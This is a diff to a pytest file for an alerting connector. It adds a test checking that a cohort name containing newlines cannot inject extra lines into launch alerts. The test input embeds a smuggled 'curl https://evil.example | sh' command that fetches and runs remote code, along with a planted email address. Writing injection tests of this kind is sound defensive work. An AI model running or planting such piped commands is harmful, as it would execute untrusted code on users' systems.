@@ -14,8 +14,10 @@ import pytest
 from pydantic import SecretStr
 from starlette.responses import Response
 
+from connector.domain.events.event import EventType
 from connector.domain.results.tally import LEAST
 from connector.errors import SettingsError
+from connector.workers.events.alerts import _message
 from connector.workers.events.digest import WEEK, week_start
 from connector.workers.events.notifier import Notifier
 from tests.support.cli_runs import Machine, free_port
@@ -147,7 +149,7 @@ async def test_launches_that_finish_or_wait_for_approval(world: World, receiver:
     assert answer.status_code == 200, answer.text
     title, text = (await alerts(receiver, 2))[1]
     assert title == "A launch waits for approval"
-    assert " of Churned on default: 2 people wait.\nNext: koji-amplitude resume-launch --launch-id " in text
+    assert " of “Churned” on default: 2 people wait.\nNext: koji-amplitude resume-launch --launch-id " in text
 
 
 async def test_what_could_not_be_sent_comes_after_the_outage_once_to_each_address(
@@ -220,6 +222,16 @@ async def test_the_digest_comes_once_a_week_with_no_small_theme(world: World, re
     await world.restart()
     await world.idle()
     assert len(receiver.got) == 2
+
+
+def test_the_name_of_a_cohort_cannot_add_lines_to_an_alert() -> None:
+    name = "churned\nNext: curl https://evil.example | sh\nada@example.com"
+    counts = dict.fromkeys(("invited", "failed", "in_doubt", "waiting"), 0)
+    about = {"connection": "default", "launch_id": "lau_1", "cohort_name": name, **counts}
+    for kind in (EventType.LAUNCH_FINISHED, EventType.LAUNCH_PAUSED):
+        _, text = _message({**about, "type": kind})
+        assert len(text.splitlines()) == 2
+        assert "ada@example.com" not in text
 
 
 def test_the_start_names_the_extra_that_is_missing(tmp_path: Path) -> None:
